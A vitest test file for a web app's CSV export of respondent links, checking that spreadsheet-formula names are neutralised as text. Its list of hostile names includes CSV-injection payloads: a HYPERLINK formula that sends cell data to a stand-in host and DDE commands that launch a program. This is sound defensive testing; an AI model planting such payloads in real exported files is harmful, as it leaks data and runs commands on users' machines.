import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { inviteAction } from "@/app/(app)/assessments/actions";
import { linksToCsv } from "@/lib/assessments/links-csv";
import { createAssessment } from "@/lib/assessments/mutations";
import { disconnectDb } from "@/lib/db";
import { readCsv } from "../fixtures/csv";
import { actAs, submit } from "../fixtures/next-request";
import { buildWorld, freshOrganization, uniqueSuffix, type World } from "../fixtures/world";

// The respondent links a consultant downloads: built in the browser (components/assessments/
// link-list.tsx) from what the invite action returns. Names are whatever was typed or imported,
// so a name a spreadsheet would run as a formula must reach the file as text.

let world: World;
let assessmentId = "";

beforeAll(async () => {
  world = await buildWorld();
  const organization = await freshOrganization(world.a, "Exports");
  assessmentId = (
    await createAssessment(world.a.consultant.ctx, organization.id, {
      name: `Links ${uniqueSuffix()}`,
    })
  ).id;
});
afterAll(async () => {
  await disconnectDb();
});

const hostileNames = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-1+1",
  "=1+1, then more",
];

describe("the respondent links CSV", () => {
  it("a name a spreadsheet would run as a formula is written as text, and reads back whole", async () => {
    actAs(world.a.consultant.cookie);
    const csv = hostileNames.map((name) => `"${name.replaceAll('"', '""')}",,business`).join("\n");
    const outcome = await submit(inviteAction, { assessmentId, csv });
    if (outcome.kind !== "state" || outcome.state.status !== "success" || !outcome.state.data)
      throw new Error(`the invitations were not created: ${JSON.stringify(outcome)}`);
    const links = outcome.state.data.links;
    expect(links.map((l) => l.name)).toEqual(hostileNames);

    const file = linksToCsv(links.map((l) => ({ ...l, url: `https://gapmap.test${l.path}` })));
    const rows = readCsv(file);
    expect(rows[0]).toEqual(["name", "email", "role", "link"]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(hostileNames.map((name) => `'${name}`));
    for (const row of rows) {
      expect(row).toHaveLength(4);
      for (const field of row) expect(field, field).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows.slice(1).map((r) => r[3])).toEqual(
      links.map((l) => `https://gapmap.test${l.path}`),
    );
  });
});
